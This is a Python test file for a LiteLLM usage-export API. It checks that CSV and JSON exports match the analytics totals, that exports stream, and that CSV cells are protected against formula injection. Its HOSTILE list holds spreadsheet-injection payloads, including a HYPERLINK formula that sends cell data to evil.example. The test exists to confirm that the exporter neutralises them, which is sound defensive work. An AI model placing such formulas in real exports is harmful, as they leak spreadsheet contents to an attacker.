"""Exports: the same figures as the analytics, spreadsheet-safe CSV, streamed from the database."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import httpx
import psutil
import psycopg

from tests.support.stack import CHAT, EMBED, api, token_hash
from tests.usage.support import daily_row, random_hash, seed_litellm_daily, unused_day

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+2", "-3+4", "@SUM(A1:A9)", "\tcmd"]
METRICS = ("requests", "successful_requests", "failed_requests", "prompt_tokens", "completion_tokens", "total_tokens")


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _sums(rows: list[dict[str, Any]]) -> dict[str, Any]:
    out: dict[str, Any] = {m: sum(int(r[m]) for r in rows) for m in METRICS}
    out["spend"] = round(sum(float(r["spend"]) for r in rows) * 1e8)
    return out


def _expected(totals: dict[str, Any]) -> dict[str, Any]:
    return {**{m: totals[m] for m in METRICS}, "spend": round(totals["spend"] * 1e8)}


async def test_csv_and_json_exports_equal_the_analytics(login: Any, litellm_stack: Any) -> None:
    admin = api(await login(role="admin"))
    user = api(await login())
    await user.subscribe(CHAT)
    key = await user.create_key([CHAT], alias="export-me")
    me = await user.me()
    start = unused_day()
    days = [start + timedelta(days=i) for i in range(3)]
    ours = token_hash(key["key"])
    rows = [daily_row(ours, d, user_id=me["user_id"], requests=2 + i, spend=0.01 * (i + 1)) for i, d in enumerate(days)]
    rows.append(daily_row(ours, days[1], user_id=me["user_id"], model=EMBED, endpoint="/embeddings", prompt=7))
    # Keys made at the proxy whose LiteLLM user ids a spreadsheet would run as formulas.
    rows += [daily_row(random_hash(), days[2], user_id=name, requests=1, spend=0.002) for name in HOSTILE]
    seed_litellm_daily(litellm_stack.litellm_database_url, rows)
    params = {"start_date": days[0].isoformat(), "end_date": days[-1].isoformat()}
    analytics = (await admin.call("POST", "/admin/usage/analytics", 200, json={**params, "limit": 500})).json()
    expected = _expected(analytics["totals"])
    assert expected["requests"] == 2 + 3 + 4 + 1 + len(HOSTILE)

    daily_csv = await admin.call("GET", "/admin/usage/export", 200, params=params)
    assert daily_csv.headers["content-type"].startswith("text/csv")
    assert daily_csv.headers["content-disposition"] == (
        f'attachment; filename="litemaas-usage-all-daily-{params["start_date"]}-{params["end_date"]}.csv"'
    )
    daily = _csv_rows(daily_csv.text)
    assert _sums(daily) == expected
    assert len(daily) == 4 + len(HOSTILE)
    owners = {r["litellm_user_id"] for r in daily if r["key_status"] == "external"}
    assert owners == {"'" + name for name in HOSTILE}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in daily for cell in row.values() if cell)
    assert ours not in daily_csv.text

    daily_json = (await admin.call("GET", "/admin/usage/export", 200, params={**params, "format": "json"})).json()
    assert _sums(daily_json) == expected
    assert {r["litellm_user_id"] for r in daily_json if r["key_status"] == "external"} == set(HOSTILE)
    mine = [r for r in daily_json if r["key"] == key["id"]]
    assert {(r["username"], r["key_alias"], r["model"]) for r in mine} == {
        (me["username"], "export-me", CHAT),
        (me["username"], "export-me", EMBED),
    }

    for view in ("users", "models", "providers", "keys", "endpoints"):
        for fmt in ("csv", "json"):
            response = await admin.call(
                "GET", "/admin/usage/export", 200, params={**params, "view": view, "format": fmt}
            )
            assert f"-{view}-" in response.headers["content-disposition"]
            exported = _csv_rows(response.text) if fmt == "csv" else response.json()
            assert _sums(exported) == expected, (view, fmt)
    keys_json = (
        await admin.call("GET", "/admin/usage/export", 200, params={**params, "view": "keys", "format": "json"})
    ).json()
    assert len(keys_json) == analytics["by_key"]["total"]

    own = await user.call("GET", "/usage/export", 200, params={**params, "format": "json"})
    assert "litemaas-usage-own-daily-" in own.headers["content-disposition"]
    assert {r["key"] for r in own.json()} == {key["id"]}
    own_totals = (await user.call("POST", "/usage/analytics", 200, json=params)).json()["totals"]
    assert _sums(own.json()) == _expected(own_totals)


def test_a_large_export_streams_before_the_last_row_is_read(usage_server: Any, backend_database_url: str) -> None:
    """300,000 rows: the first bytes arrive while the server's cursor is still open mid-table."""
    url = backend_database_url.replace("postgresql+asyncpg://", "postgresql://", 1)
    start = unused_day()
    days, per_day = 3, 100_000
    model = f"stream-model-{start}"
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute(
            """
            INSERT INTO usage_daily (day, token_hash, model, provider, endpoint, litellm_user_id, user_id, key_id,
                requests, successful_requests, failed_requests, prompt_tokens, completion_tokens, spend,
                response_time_ms, timed_requests)
            SELECT %(start)s::date + (i %% %(days)s), md5(i::text) || md5((i + 1)::text), %(model)s, 'hosted_vllm',
                   '/chat/completions', 'stream-owner', NULL, NULL, 1, 1, 0, 10, 20, 0.001, 5, 1
            FROM generate_series(1, %(rows)s) i
            """,
            {"start": start, "days": days, "rows": days * per_day, "model": model},
        )
        conn.execute(
            "INSERT INTO usage_days (day, fetched_at, final, rows, fetches, fingerprint, changed_at) "
            "SELECT %(start)s::date + d, now(), true, %(per_day)s, 1, 'seeded', now() FROM generate_series(0, %(last)s) d",
            {"start": start, "per_day": per_day, "last": days - 1},
        )
    server = psutil.Process(usage_server.proc.pid)
    with httpx.Client(base_url=usage_server.url, timeout=120) as client:
        login = client.post("/auth/dev", data={"username": f"stream-admin-{start}", "role": "admin"})
        assert login.status_code == 303, login.text
        rss_before = server.memory_info().rss
        params = {
            "start_date": start.isoformat(),
            "end_date": (start + timedelta(days=days - 1)).isoformat(),
            "model": model,
        }
        with client.stream("GET", "/api/v1/admin/usage/export", params=params) as response:
            assert response.status_code == 200
            chunks = response.iter_raw()
            first = b""
            while first.count(b"\n") < 2:  # the header and a first row
                first += next(chunks)
            assert first.startswith(b"date,user_id,username")
            # The rows are not in the server's memory (they would take hundreds of MB)...
            assert server.memory_info().rss - rss_before < 100 * 2**20
            with psycopg.connect(url, autocommit=True) as conn:
                open_cursors = conn.execute(
                    "SELECT count(*) FROM pg_stat_activity WHERE query LIKE '%%usage.export%%' "
                    "AND state IN ('active', 'idle in transaction') AND pid <> pg_backend_pid()"
                ).fetchone()
            # ... but still behind its open cursor.
            assert open_cursors is not None and open_cursors[0] == 1
            lines = first.count(b"\n") + sum(chunk.count(b"\n") for chunk in chunks)
    assert first.count(b"\n") < 1000
    assert lines == 1 + days * per_day
